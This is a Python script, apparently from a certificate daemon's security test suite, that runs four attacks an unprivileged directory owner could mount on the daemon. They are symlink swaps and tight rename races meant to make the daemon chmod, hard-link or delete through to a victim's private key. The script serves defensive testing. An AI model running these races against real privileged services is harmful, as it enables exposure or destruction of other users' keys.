"""The attacks of issue 12, run as the deploy directory's owner (never as root).

Usage: attacker.py ATTACK DEPLOY_DIR VICTIM_DIR DEADLINE_SECONDS

Each attack prints "ready" once set up, then tries until it has done its move, the file
DEPLOY_DIR/../stop appears, or the deadline passes; it prints what it did and exits 0.
It only uses what a directory owner can do: rename, symlink, create, remove in DEPLOY_DIR.
Standard library only: it runs under the system python3 as an unprivileged user.
"""

from __future__ import annotations

import os
import sys
import time

attack, deploy, victim, deadline = sys.argv[1], sys.argv[2], sys.argv[3], time.monotonic() + float(sys.argv[4])
stop = os.path.join(os.path.dirname(deploy), "stop")


def going() -> bool:
    return time.monotonic() < deadline and not os.path.exists(stop)


def say(msg: str) -> None:
    print(msg, flush=True)


def swap_for_symlink(path: str, target: str) -> bool:
    """Replace ``path`` (whatever it is) with a symlink to ``target``; False if it vanished."""
    aside = path + ".attacker-aside"
    try:
        os.rename(path, aside)
    except FileNotFoundError:
        return False
    os.symlink(target, path)
    return True


def f1() -> None:
    """No race: .www.versions becomes a symlink to the victim directory, before the renewal."""
    root = os.path.join(deploy, ".www.versions")
    swap_for_symlink(root, victim)
    say("ready")
    say("f1: .www.versions -> victim")


def f2() -> None:
    """Race the drift repair's mode fix (F2). The staged name is a symlink to a hop the attacker
    flips between a copy of the (public) certificate and the victim key: certd reads through it
    and sees its own content, then chmods through it, hoping to land on the victim. Deleting
    the live cert.pem again and again keeps the daemon's drift repair coming back."""
    import stat
    live = os.path.join(deploy, "cert.pem")
    staged = os.path.join(deploy, ".cert.pem.certd-0001")
    hop, copy = os.path.join(deploy, ".attacker-hop"), os.path.join(deploy, ".attacker-copy")
    tmp = os.path.join(deploy, ".attacker-tmp")
    target = os.path.join(victim, "0001", "privkey.pem")
    with open(live, "rb") as f:
        data = f.read()
    with open(copy, "wb") as f:
        f.write(data)
    say("ready")
    flips = unlinks = 0
    while going():
        try:
            if not stat.S_ISLNK(os.lstat(staged).st_mode):
                os.symlink(hop, tmp)
                os.rename(tmp, staged)           # staged -> hop, from now on
        except OSError:
            pass
        try:
            if stat.S_ISREG(os.lstat(live).st_mode):
                os.unlink(live)                  # drift: the daemon repairs it
                unlinks += 1
        except OSError:
            pass
        for where in [copy, target] * 100:       # hop -> our copy / the victim, back and forth
            try:
                os.symlink(where, tmp)
                os.rename(tmp, hop)
                flips += 1
            except OSError:
                pass
    say(f"f2: {flips} flips, {unlinks} live files removed")


def f3() -> None:
    """Plant a leftover temp dir certd cleans up, and swap its subdirectory for a symlink to the
    victim directory as soon as certd starts deleting inside it."""
    top = os.path.join(deploy, ".www.pem.tmp-attacker")
    sub = os.path.join(top, "s")
    os.makedirs(sub)
    names = [f"f{i:03d}" for i in range(200)] + ["privkey.pem"]  # the victim's names (it cannot list them)
    for n in names:
        with open(os.path.join(sub, n), "wb") as f:
            f.write(b"x" * 4096)
    target = os.path.join(victim, "0001")
    say("ready")
    while going():
        if len(os.listdir(sub)) < len(names):  # certd is deleting inside s: swap it now
            swap_for_symlink(sub, target)
            say("f3: swapped s -> victim")
            return
        time.sleep(0.0002)
    say("f3: certd never touched the planted directory")


def f4() -> None:
    """Keep replacing the name the next version is staged under with a symlink to the victim
    file (a tight rename loop, so it is a symlink at almost any instant), hoping the switch
    hard-links through it."""
    target = os.path.join(victim, "0001", "privkey.pem")
    staged = os.path.join(deploy, ".www.pem.certd-0002")
    tmp = staged + ".attacker"
    say("ready")
    flips = 0
    while going():
        try:
            os.symlink(target, tmp)
            os.rename(tmp, staged)
            flips += 1
        except OSError:
            pass
    say(f"f4: {flips} flips")


{"f1": f1, "f2": f2, "f3": f3, "f4": f4}[attack]()
